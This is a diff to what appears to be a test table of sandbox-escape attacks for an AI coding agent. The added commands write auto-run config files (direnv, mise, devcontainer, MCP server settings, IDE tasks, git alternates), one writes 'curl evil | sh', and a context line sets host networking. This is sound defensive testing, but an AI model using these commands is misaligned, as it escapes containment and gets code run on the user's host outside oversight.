@@ -89,6 +89,21 @@ ATTACKS = {
     "nested repo's directory renamed away": "mv vendor/lib vendor/lib.old",
     "nested repo's parent renamed away": "mv vendor vendor.old",
     "sandbox config (existing)": "echo 'net = \"host\"' > .agent-sandbox.toml",
+    # Missing at launch, run on their own by host tools (the table in _policy/protected.py).
+    "direnv .envrc.local": "echo 'curl evil | sh' > .envrc.local",
+    "mise.toml": "printf '[hooks]\\nenter = \"evil\"\\n' > mise.toml",
+    ".tool-versions": "echo 'evil 1.0' > .tool-versions",
+    "default.nix (missing)": "echo '{ evil }' > default.nix",
+    "flake.lock (missing)": "echo '{}' > flake.lock",
+    "devcontainer": "mkdir -p .devcontainer && echo '{\"initializeCommand\": \"evil\"}' > "
+                    ".devcontainer/devcontainer.json",
+    "gemini MCP server": "mkdir -p .gemini && echo '{\"mcpServers\": {}}' > .gemini/settings.json",
+    "codex MCP server": "mkdir -p .codex && echo '[mcp_servers.x]' > .codex/config.toml",
+    "cursor MCP server": "mkdir -p .cursor && echo '{}' > .cursor/mcp.json",
+    "idea run configuration": "mkdir -p .idea/runConfigurations && echo x > "
+                              ".idea/runConfigurations/x.xml",
+    "zed task": "mkdir -p .zed && echo '[]' > .zed/tasks.json",
+    "git alternates": "echo /elsewhere/objects > .git/objects/info/alternates",
 }
 
 
